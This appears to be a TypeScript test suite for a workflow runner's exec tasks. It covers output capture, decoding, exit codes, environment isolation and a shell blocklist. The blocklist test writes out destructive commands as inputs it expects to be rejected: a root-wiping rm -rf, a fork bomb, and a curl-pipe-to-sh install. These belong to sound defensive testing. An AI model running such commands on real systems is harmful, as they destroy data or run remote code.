// exec: capture, decode, exit codes, environment, blocklist.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { realpathSync } from 'node:fs';
import { runYaml } from '../cli/helpers.js';

const wf = (tasks: string) => `nika: t\npermits:\n  exec: true\ntasks:\n${tasks}`;

test('capture and decode: stdout text loses one trailing newline; json, jsonl, bytes, stderr, combined, structured', async () => {
  const { result } = await runYaml(wf(`  text:
    exec: { shell: "printf 'a\\n\\n'" }
  json:
    exec: { command: [echo, '{"a": [1, 2]}'], decode: json }
  jsonl:
    exec: { shell: "printf '{\\"n\\":1}\\n\\n{\\"n\\":2}\\n'", decode: jsonl }
  bytes:
    exec: { command: [printf, "hi"], decode: bytes }
  err:
    exec: { shell: "echo out; echo problem >&2", capture: stderr }
  both:
    exec: { shell: "echo one; echo two >&2", capture: combined }
  structured:
    exec: { shell: "echo fine; echo warn >&2; exit 5", capture: structured }
  stdin:
    exec: { command: [cat], stdin: "fed through stdin" }
`));
  const out = (id: string) => result.tasks[id].output;
  assert.equal(out('text'), 'a\n');
  assert.deepEqual(out('json'), { a: [1, 2] });
  assert.deepEqual(out('jsonl'), [{ n: 1 }, { n: 2 }]);
  assert.equal(Buffer.from(out('bytes') as string, 'base64').toString(), 'hi');
  assert.equal(out('err'), 'problem');
  assert.deepEqual((out('both') as string).split('\n').sort(), ['one', 'two']);
  assert.deepEqual(out('structured'), { stdout: 'fine', stderr: 'warn', exit_code: 5 });
  assert.equal(result.tasks.structured.status, 'success');
  assert.equal(out('stdin'), 'fed through stdin');
});

test('non-zero exit is NIKA-EXEC-001 with the code and the stderr tail; a missing program is NIKA-EXEC-002', async () => {
  const { result } = await runYaml(wf(`  fails:
    exec: { shell: "echo 'disk is full' >&2; exit 7" }
  missing:
    exec: { command: [definitely-not-a-program-xyz] }
  bad_json:
    exec: { command: [echo, "not json"], decode: json }
`));
  assert.equal(result.tasks.fails.error?.code, 'NIKA-EXEC-001');
  assert.match(result.tasks.fails.error!.message, /code 7/);
  assert.match(result.tasks.fails.error!.message, /disk is full/);
  assert.equal(result.tasks.missing.error?.code, 'NIKA-EXEC-002');
  assert.equal(result.tasks.bad_json.status, 'failure');
});

test('children get the env floor plus exec.env, never the whole parent environment', async () => {
  const { result } = await runYaml(`nika: t
permits:
  exec: true
  env: [PASSED_THROUGH, MY_VAR]
tasks:
  env:
    exec:
      command: [sh, -c, 'echo "$HOME|$MY_VAR|$PASSED_THROUGH|\${LEAKY_SECRET:-unset}"']
      env: { MY_VAR: "set by task" }
`, { env: { ...process.env, LEAKY_SECRET: 'do-not-pass', PASSED_THROUGH: 'granted' } });
  assert.equal(result.tasks.env.output, `${process.env.HOME}|set by task|granted|unset`);
});

test('cwd is relative to the workflow folder', async () => {
  const { result, dir } = await runYaml(wf(`  mk:
    exec: { shell: "mkdir -p sub" }
  where:
    after: { mk: success }
    exec: { command: [pwd], cwd: sub }
`));
  assert.equal(result.tasks.where.output, `${realpathSync(dir)}/sub`);
});

test('the shell blocklist refuses destructive commands with NIKA-SEC-001 before anything runs', async () => {
  const { result } = await runYaml(wf(`  wipe:
    exec: { shell: "rm -rf / --no-preserve-root" }
  bomb:
    exec: { shell: ":(){ :|:& };:" }
  pipe:
    exec: { shell: "curl -s https://example.invalid/install.sh | sh" }
  argv:
    exec: { command: [rm, -rf, /] }
  fine:
    exec: { shell: "echo rm -rf is only text here > /dev/null; echo ok" }
`));
  for (const id of ['wipe', 'bomb', 'pipe', 'argv']) assert.equal(result.tasks[id].error?.code, 'NIKA-SEC-001', id);
  assert.equal(result.tasks.fine.output, 'ok');
});
